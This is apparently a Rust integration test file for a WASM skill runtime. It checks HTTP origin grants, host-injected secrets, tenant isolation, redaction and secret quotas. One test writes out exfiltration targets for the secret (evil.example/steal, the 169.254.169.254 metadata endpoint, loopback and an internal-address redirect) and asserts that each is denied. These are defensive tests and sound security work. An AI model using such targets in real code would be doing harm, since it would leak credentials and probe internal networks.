//! `http` and `secrets` end to end: a real server on 127.0.0.1:0, origins
//! granted by manifest ∩ policy, secrets injected by the host and never
//! leaving a call.

use crate::server;
use crate::{call, call_json, load_with_manifest, set_policy, skill_error_kind};
use serde_json::json;
use wasmclaw_tests::{runtime, tenant};

fn fetch_manifest(origin: &str) -> String {
    format!("name = \"fetch\"\nversion = \"0.1.0\"\n[permissions]\nhttp = [\"{origin}\"]\n")
}

fn weather_manifest(origin: &str) -> String {
    format!(
        "name = \"weather\"\nversion = \"0.1.0\"\n[permissions]\nhttp = [\"{origin}\"]\nsecrets = [\"WEATHER_API_KEY\"]\n"
    )
}

#[tokio::test]
async fn fetch_reaches_a_granted_origin_only() {
    let srv = server::start().await;
    let (_d, rt) = runtime();
    let fetch = load_with_manifest(&rt, "fetch", &fetch_manifest(&srv.origin())).await;
    set_policy(&rt, "tenant-a", &format!("[[http]]\norigin = \"{}\"\n", srv.origin()));
    let input = json!({"url": srv.url("/echo"), "method": "POST", "body": "hi"}).to_string();

    // Allowed: granted by the manifest and tenant A's policy.
    let out = call_json(&rt, &fetch, "tenant-a", &input).await;
    assert_eq!(out["status"], 200);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(out["body"].as_str().unwrap()).unwrap()["body"],
        "hi"
    );

    // Cross-tenant: tenant B has no such grant.
    let e = call(&rt, &fetch, "tenant-b", &input).await.unwrap_err();
    assert_eq!(skill_error_kind(&e), "denied", "{e}");

    // Denied: a policy grant the manifest does not ask for is not enough.
    let other = load_with_manifest(&rt, "fetch", &fetch_manifest("https://example.com")).await;
    let e = call(&rt, &other, "tenant-a", &input).await.unwrap_err();
    assert_eq!(skill_error_kind(&e), "denied", "{e}");
}

#[tokio::test]
async fn weather_gets_its_key_injected_and_never_sees_it() {
    let srv = server::start().await;
    let (_d, rt) = runtime();
    let weather = load_with_manifest(&rt, "weather", &weather_manifest(&srv.origin())).await;
    let grant = format!("[[http]]\norigin = \"{}\"\nsecrets = [\"WEATHER_API_KEY\"]\n", srv.origin());
    set_policy(&rt, "tenant-a", &grant);
    set_policy(&rt, "tenant-b", &grant);
    rt.put_secret("test", &tenant("tenant-a"), "WEATHER_API_KEY", b"wk-aaaa-1111").unwrap();
    rt.put_secret("test", &tenant("tenant-b"), "WEATHER_API_KEY", b"wk-bbbb-2222").unwrap();
    let input = json!({"city": "Paris", "endpoint": srv.origin()}).to_string();

    let out = call(&rt, &weather, "tenant-a", &input).await.unwrap();
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out.output).unwrap(),
        json!({"city":"Paris","temp_c":21})
    );
    // Cross-tenant: each tenant's call carried its own key, never the other's.
    call(&rt, &weather, "tenant-b", &input).await.unwrap();
    assert_eq!(
        *srv.seen.api_keys.lock().unwrap(),
        vec!["wk-aaaa-1111".to_string(), "wk-bbbb-2222".to_string()]
    );

    // Denied: the origin is granted but the secret is not granted for it.
    set_policy(&rt, "tenant-c", &format!("[[http]]\norigin = \"{}\"\n", srv.origin()));
    rt.put_secret("test", &tenant("tenant-c"), "WEATHER_API_KEY", b"wk-cccc-3333").unwrap();
    let e = call(&rt, &weather, "tenant-c", &input).await.unwrap_err();
    assert_eq!(skill_error_kind(&e), "denied", "{e}");
    assert_eq!(srv.seen.api_keys.lock().unwrap().len(), 2, "the refused request never left");
}

#[tokio::test]
async fn exfil_reaches_nothing_and_the_secret_never_leaves() {
    let srv = server::start().await;
    let (_d, rt) = runtime();
    let port = srv.addr.port();
    let localhost = format!("http://localhost:{port}");
    let manifest = format!(
        "name = \"exfil\"\nversion = \"0.1.0\"\n[permissions]\nhttp = [\"{}\", \"{localhost}\"]\nsecrets = [\"API_KEY\"]\n",
        srv.origin()
    );
    let exfil = load_with_manifest(&rt, "exfil", &manifest).await;
    set_policy(
        &rt,
        "tenant-a",
        &format!(
            "[[http]]\norigin = \"{}\"\nsecrets = [\"API_KEY\"]\n[[http]]\norigin = \"{localhost}\"\nsecrets = [\"API_KEY\"]\n",
            srv.origin()
        ),
    );
    let secret = "sk-live-0123456789abcdef";
    rt.put_secret("test", &tenant("tenant-a"), "API_KEY", secret.as_bytes()).unwrap();
    let targets = [
        "https://evil.example/steal".to_string(),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        format!("http://127.0.0.1:{}/", port.wrapping_add(1)),
        "http://127.0.0.1/".to_string(),
        srv.url("/to?u=http://10.0.0.1/"),
        format!("{localhost}/echo"),
    ];
    let input = json!({"echo": srv.url("/echo"), "targets": targets}).to_string();
    let out = call(&rt, &exfil, "tenant-a", &input).await.unwrap();
    let v: serde_json::Value = serde_json::from_str(&out.output).unwrap();
    for r in v["results"].as_array().unwrap() {
        assert_eq!(r["outcome"], "denied", "{r}");
    }

    // The value was reflected to the guest, which put it everywhere it could.
    let b64 = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(secret)
    };
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let everywhere = format!(
        "{} {} {:?} {}",
        out.output,
        out.stdout,
        out.logs,
        std::fs::read_to_string(rt.audit().path()).unwrap()
    );
    for leak in [secret, b64.as_str(), hex.as_str()] {
        assert!(!everywhere.contains(leak), "{leak} left the call: {everywhere}");
    }
    assert_eq!(v["value"], "[redacted:API_KEY]");
    assert_eq!(out.redacted, vec!["API_KEY".to_string()]);
    assert!(out.logs.iter().any(|l| l.message.contains("[redacted:API_KEY]")), "{:?}", out.logs);
    let audit = rt.audit().read_all().unwrap();
    assert!(
        audit.iter().any(|e| e["action"] == "secret.redacted"
            && e["target"] == "API_KEY"
            && e["tenant"] == "tenant-a"),
        "{audit:?}"
    );
}

#[tokio::test]
async fn a_secret_laundered_through_memory_is_still_redacted() {
    let (_d, rt) = runtime();
    let notes = crate::load(&rt, "notes").await;
    let secret = "sk-live-launder-0001";
    rt.put_secret("test", &tenant("tenant-a"), "API_KEY", secret.as_bytes()).unwrap();
    // As if an earlier call had stored the value it got reflected: `notes`
    // has no secret grant at all, and still cannot hand the value out.
    let add = json!({"op": "add", "text": format!("key={secret}")}).to_string();
    call(&rt, &notes, "tenant-a", &add).await.unwrap();
    let out = call(&rt, &notes, "tenant-a", r#"{"op":"list"}"#).await.unwrap();
    assert!(!out.output.contains(secret), "{}", out.output);
    assert!(out.output.contains("key=[redacted:API_KEY]"), "{}", out.output);
    assert_eq!(out.redacted, vec!["API_KEY".to_string()]);
    // Tenant B's calls are scrubbed with B's secrets only: its own text is
    // its own.
    call(&rt, &notes, "tenant-b", &add).await.unwrap();
    let out = call(&rt, &notes, "tenant-b", r#"{"op":"list"}"#).await.unwrap();
    assert!(out.output.contains(secret) && out.redacted.is_empty(), "{}", out.output);
    // A secret written later is scrubbed from the next call on.
    rt.put_secret("test", &tenant("tenant-b"), "OTHER", b"key=sk").unwrap();
    let out = call(&rt, &notes, "tenant-b", r#"{"op":"list"}"#).await.unwrap();
    assert_eq!(out.redacted, vec!["OTHER".to_string()], "{}", out.output);
}

#[tokio::test]
async fn secrets_are_capped_in_number_and_size_with_a_clear_error() {
    let (_d, rt) = wasmclaw_tests::runtime_with(|c| {
        c.secret_limits.max_count = 3;
        c.secret_limits.max_total_bytes = 100;
        c.secret_limits.max_value_bytes = 40;
    });
    let a = tenant("tenant-a");
    // Allowed: within every bound; replacing a value is not one more.
    for name in ["S1", "S2", "S3"] {
        rt.put_secret("test", &a, name, &[b'x'; 30]).unwrap();
    }
    rt.put_secret("test", &a, "S3", &[b'y'; 40]).unwrap();
    assert_eq!(rt.secret_names(&a).unwrap().len(), 3);
    // Denied: a fourth secret, a value past the per-value bound, a total
    // past the tenant's bound.
    let e = rt.put_secret("test", &a, "S4", b"v").unwrap_err();
    assert_eq!(e.kind(), "quota-exceeded", "{e}");
    assert!(e.to_string().contains("3 secrets, the most is 3"), "{e}");
    let e = rt.put_secret("test", &a, "S1", &[b'x'; 41]).unwrap_err();
    assert_eq!(e.kind(), "too-large", "{e}");
    let e = rt.put_secret("test", &a, "S1", &[b'x'; 31]).unwrap_err();
    assert_eq!(e.kind(), "quota-exceeded", "{e}");
    assert!(e.to_string().contains("101 bytes, the most is 100"), "{e}");
    // Nothing refused was written; another tenant has its own bounds.
    assert_eq!(rt.secret_names(&a).unwrap(), ["S1", "S2", "S3"]);
    rt.put_secret("test", &tenant("tenant-b"), "S4", b"v").unwrap();
}
